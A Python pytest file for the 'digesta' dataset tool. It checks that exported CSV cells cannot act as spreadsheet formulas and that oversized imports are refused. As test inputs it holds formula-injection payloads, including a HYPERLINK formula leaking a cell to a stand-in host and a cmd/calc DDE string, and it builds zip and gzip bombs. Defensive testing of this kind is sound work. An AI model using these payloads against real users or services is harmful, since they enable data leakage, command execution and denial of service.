"""What ``digesta export`` writes for spreadsheets, and how much ``digesta import`` reads."""

from __future__ import annotations

import csv
import gzip
import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from seeds import case, cases, task, tasks
from typer.testing import CliRunner

from commanded import Server
from digesta.cli.options import app


def zip_bomb() -> bytes:
    """Return an archive with a member of 256 MiB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("header.json", "{}")
        with archive.open("samples/1.json", "w") as member:
            for _ in range(256):
                member.write(bytes(1 << 20))
    return out.getvalue()


FORMULAS = (
    '=HYPERLINK("http://x.invalid/?"&A1,"ok")', "+cmd|x!A1", "-1+1", "@SUM(1)", "\t=1", " =1",
    "＝1+1",
)  # fmt: skip


QRELS, RUN = b"q 0 c 5\n", b"q Q0 c 1 0.5 t\n"
HEADER = cases(case())["Finlaw_dataset.csv"].split(b"\r\n")[0]
MAPPING = {"m.toml": b'question = "q"\nanswer = "a"\n'}


@pytest.fixture(scope="module")
def converter(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Start a server; usual is a file that is taken, of nearly as many bytes as one may have."""
    root, made = tmp_path_factory.mktemp("usual"), Server()
    rows = b"".join(b'{"q":"%d %b","a":"y"}\n' % (n, b"x" * 150_000) for n in range(440))
    for name, data in (MAPPING | {"a.jsonl": rows}).items():
        (root / name).write_bytes(data)
    made.run(["import", "trec", "none.txt", "-o", "none"], warm=True)
    made.usual = made.run(["import", "table", str(root), "-o", str(root / "draft")])
    assert made.usual.codes == [0], made.usual.said
    yield made
    made.end()


def digesta(*arguments: object) -> None:
    done = CliRunner().invoke(app, [str(argument) for argument in arguments])
    assert done.exit_code == 0, done.stderr


def table(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def imported(root: Path, form: str, files: dict[str, bytes]) -> Path:
    for name, data in files.items():
        (root / name).write_bytes(data)
    digesta("import", form, *(root / name for name in files), "-o", root / "draft")
    return root / "draft"


def test_no_cell_of_an_exported_table_is_a_formula(tmp_path: Path) -> None:
    answers = [
        {"序号": str(n), "处罚类型": text, "违规领域": "", "法律依据": "", "处罚等级": "B"}
        for n, text in enumerate(FORMULAS)
    ]
    rows = [case(序号=str(n), 违规事实=text) for n, text in enumerate(FORMULAS)]
    draft = imported(tmp_path, "finlaw", cases(*rows, answers=answers))

    digesta("export", "finlaw", draft, "-o", tmp_path / "out")

    written = table(tmp_path / "out" / "predictions.csv")
    assert [row["处罚类型"] for row in written] == [f"'{text}" for text in FORMULAS]
    facts = table(tmp_path / "out" / "Finlaw_dataset.csv")
    assert [row["违规事实"] for row in facts] == [f"'{text}" for text in FORMULAS]


@pytest.mark.parametrize("text", ["x;=1+cmd|' /C calc'!A0;y", "x\n=1+1\ny", "x;+1;@y;'=z"])
def test_where_a_semicolon_parts_cells_none_is_a_formula(text: str, tmp_path: Path) -> None:
    draft = imported(tmp_path, "finlaw", cases(case(违规事实=text), answers=[]))

    digesta("export", "finlaw", draft, "-o", tmp_path / "out")

    written = (tmp_path / "out" / "Finlaw_dataset.csv").read_bytes().decode("utf-8-sig")
    cells = [cell for row in csv.reader(written.splitlines(), delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@"))]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_was_guarded_is_imported_as_it_was(text: str, tmp_path: Path) -> None:
    draft = imported(tmp_path, "frenchlaw", tasks(task(Prompt=f"'{text}", Title=f"'{text}")))
    digesta("export", "frenchlaw", draft, "-o", tmp_path / "out")

    assert table(tmp_path / "out" / "tasks.csv")[0]["Prompt"] == f"'{text}"
    digesta("import", "frenchlaw", tmp_path / "out", "-o", tmp_path / "again")
    again = (tmp_path / "again" / "questions.jsonl").read_bytes()
    assert again == (draft / "questions.jsonl").read_bytes()


@pytest.mark.parametrize(
    ("form", "files", "problem"),
    [
        ("trec", lambda: {"qrels.txt": QRELS * 1_500_000},
         "1500000 lines; expected at most 100000 lines"),
        ("trec", lambda: {"qrels.txt": QRELS, "run.txt": RUN * 300_000},
         "expected at most 250000 lines"),
        ("trec", lambda: {"qrels.txt": QRELS + b"\n" * (60 << 20)}, "line-count"),
        ("legalagent", lambda: {"a.jsonl": b'{"query":1}\n' * 2_000_000}, "line-count"),
        ("finlaw", lambda: {"a.csv": HEADER + b"\n" + b"x\n" * 2_000_000}, "line-count"),
        ("finlaw", lambda: {"a.csv": HEADER + ",违规事".encode() * 1_000_000},
         "unknown-column; got"),
        ("finlaw", lambda: {f"{n}.csv": bytes(8 << 20) for n in range(9)},
         "at most 67108864 bytes"),
        ("lm_eval", lambda: {"s.jsonl": b'{"doc_id":0,"resps":[]}\n' * 2_000_000}, "line-count"),
        ("inspect", lambda: {"a.eval": zip_bomb()}, "at most 67108864 bytes unpacked"),
        ("inspect", lambda: {"a.json": b'{"status":"","eval":' + b"[" * 50_000_000}, "depth"),
        ("lexeval", lambda: {"1_1.jsonl.gz": gzip.compress(bytes(1 << 28), 1)},
         "67108864 bytes unpacked"),
        ("disc", lambda: {"mcq_sing_a.csv": b"input,output" + b",x" * 20_000_000},
         "more than 64 columns"),
        ("lawbench", lambda: {"1-2.json": b'[{"question":' * 1_000_000}, "depth"),
        ("table", lambda: MAPPING | {"a.csv": b"q,a\n" + b"x,y\n" * 12_000_000},
         "over 1000000 cells"),
        ("table", lambda: MAPPING | {"a.jsonl": b'{"q":"' + b"x" * (40 << 20) + b'"}\n'},
         "string-size"),
    ],
    ids=[
        *("qrels", "run", "empty lines", "JSON lines", "rows", "columns", "files", "lm_eval"),
        *("zip", "nested log", "gzip", "disc", "nested list", "table", "cell"),
    ],
)  # fmt: skip
def test_an_import_that_is_dear_to_read_is_refused_cheaply(
    form: str,
    files: Callable[[], dict[str, bytes]],
    problem: str,
    tmp_path: Path,
    converter: Server,
) -> None:
    source = tmp_path / "source"
    source.mkdir()
    for name, data in files().items():
        (source / name).write_bytes(data)

    done = converter.run(["import", form, str(source), "-o", str(tmp_path / "draft")])

    assert done.codes == [1]
    assert problem in done.said[0]
    assert "; fix: " in done.said[0]
    assert done.costs_at_most(converter.usual, times=4)
    assert not (tmp_path / "draft").exists()


def test_a_file_of_many_gigabytes_is_refused_before_it_is_read(
    tmp_path: Path, converter: Server
) -> None:
    draft = imported(tmp_path, "trec", {"qrels.txt": QRELS})
    for folder in (tmp_path, draft):
        with (folder / "a.bin").open("wb") as sparse:
            sparse.truncate(20 << 30)
    named = [str(tmp_path / name) for name in ("qrels.txt", "a.bin")]

    out = ["-o", str(tmp_path / "out")]
    for command in (
        ["import", "trec", *named, *out],
        ["import", "trec", str(tmp_path), *out],
        ["export", "trec", str(draft), *out],
        ["release", "cut", str(draft)],
    ):
        done = converter.run(command)
        assert done.codes == [1], done.said
        assert "a.bin: file-size; got 21474836480 of " in done.said[0]
        assert done.costs_at_most(converter.usual)
